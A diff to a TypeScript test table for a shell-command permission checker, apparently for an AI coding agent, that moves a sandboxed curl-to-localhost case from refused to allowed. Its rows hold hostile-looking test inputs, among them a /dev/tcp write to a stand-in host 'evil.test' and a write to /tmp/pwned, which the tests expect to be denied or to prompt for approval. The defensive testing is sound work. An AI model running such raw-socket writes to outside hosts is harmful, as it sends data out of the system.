@@ -209,6 +209,13 @@ const allowed: readonly Row[] = [
     [23, command, hosts({ allowed_domains: ["*"], require_https: true }, "Bash(curl:*)"), "allow", "rule/allowed"],
   ]),
   [23, "echo x > /dev/tcp/127.0.0.1/8000", hosts({ allowed_domains: ["example.com"] }), "allow", "net/allowed"],
+  [
+    23,
+    "curl http://127.0.0.1:8000",
+    { ...hosts({ allowed_domains: ["example.com"] }, "Bash(curl:*)"), sandbox: { backend: "landlock" } },
+    "allow",
+    "rule/allowed",
+  ],
   [24, "cd src && git status", {}, "allow", "command/harmless-builtin"],
   [24, "cd src && cat ../package.json", {}, "allow", "command/harmless-builtin"],
   // 25–27: environment, read-only
@@ -517,13 +524,13 @@ const refused: readonly Row[] = [
   [22, "echo x > /tmp/pwned", mode("acceptEdits"), "ask", "path/not-writable"],
   [23, "echo x > /dev/tcp/evil.test/80", allow("Bash"), "deny", "net/host-not-allowed"],
   [23, "echo x > /dev/tcp/$HOST/80", hosts({ allowed_domains: ["example.com"] }), "deny", "net/opaque-host"],
-  ...["landlock", "none"].map((backend): Row => [
+  [
     23,
     "curl http://127.0.0.1:8000",
-    { ...hosts({ allowed_domains: ["example.com"] }, "Bash(curl:*)"), sandbox: { backend } },
+    { ...hosts({ allowed_domains: ["example.com"] }, "Bash(curl:*)"), sandbox: { backend: "none" } },
     "deny",
     "net/host-not-allowed",
-  ]),
+  ],
   [
     23,
     "curl http://localhost:8000",
